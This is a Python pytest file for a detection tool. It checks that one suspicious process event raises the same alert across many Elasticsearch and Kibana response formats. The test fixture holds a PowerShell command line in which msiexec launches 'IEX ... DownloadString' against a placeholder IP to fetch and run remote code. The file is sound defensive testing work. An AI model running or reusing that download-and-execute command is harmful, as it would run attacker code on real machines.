"""What Elasticsearch and Kibana give: hits in responses of every kind, and hits that have their fields only."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from contraband.cli import main

EVENT = {
    "@timestamp": "2026-03-01T10:00:00.000Z",
    "event": {"category": ["process"], "type": ["start"], "action": "start", "id": "e-1"},
    "host": {"name": "ws-1", "id": "h-1", "os": {"type": "windows"}},
    "process": {
        "name": "powershell.exe",
        "pid": 42,
        "executable": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "args": ["powershell.exe", "-c", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"],
        "command_line": "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
        "parent": {"name": "msiexec.exe", "pid": 9, "executable": r"C:\Windows\System32\msiexec.exe"},
    },
}


def fields(document: dict[str, Any], prefix: str = "") -> dict[str, list[Any]]:
    found: dict[str, list[Any]] = {}
    for name, value in document.items():
        if isinstance(value, dict):
            found |= fields(value, f"{prefix}{name}.")
        else:
            found[prefix + name] = value if isinstance(value, list) else [value]
    return found


HIT = {"_index": ".ds-logs-endpoint.events.process-default-2026.03.01-000001", "_id": "1", "_score": None}
SOURCE = HIT | {"_source": EVENT}
FIELDS = HIT | {"fields": fields(EVENT)}


def response(hits: list[Any]) -> dict[str, Any]:
    return {"took": 3, "timed_out": False, "hits": {"total": {"value": len(hits), "relation": "eq"}, "hits": hits}}


SHAPES = {
    "search": response([SOURCE]),
    "fields": response([FIELDS]),
    "asynchronous": {"id": "x", "is_running": False, "response": response([SOURCE])},
    "several": {"took": 1, "responses": [response([SOURCE])]},
    "eql events": {"took": 1, "hits": {"total": {"value": 1}, "events": [SOURCE]}},
    "eql sequences": {"took": 1, "hits": {"sequences": [{"join_keys": ["h-1"], "events": [SOURCE]}]}},
    "one document in Kibana": FIELDS | {"_version": 1, "sort": [1]},
    "source and fields": SOURCE | {"fields": fields(EVENT)},
}


@pytest.mark.parametrize("indent", [None, 2])
@pytest.mark.parametrize("shape", SHAPES)
def test_a_hit_gives_the_same_alerts_in_every_shape(
    shape: str, indent: int | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "export.json"
    path.write_text(json.dumps(SHAPES[shape], indent=indent))
    with pytest.raises(SystemExit) as stopped:
        main(["scan", "--format", "ndjson", str(path)])
    assert stopped.value.code == 0
    given = capsys.readouterr()
    names = {json.loads(line)["kibana.alert.rule.name"] for line in given.out.splitlines()}
    assert "Installer Starts a Script Host or Interpreter that Fetches or Unpacks Code" in names
    assert "unknown source" not in given.err
    with pytest.raises(SystemExit):
        main(["scan", "--quiet", "--format", "table", str(path)])
    assert capsys.readouterr().out.startswith("ws-1: msiexec.exe (pid 9)  (")
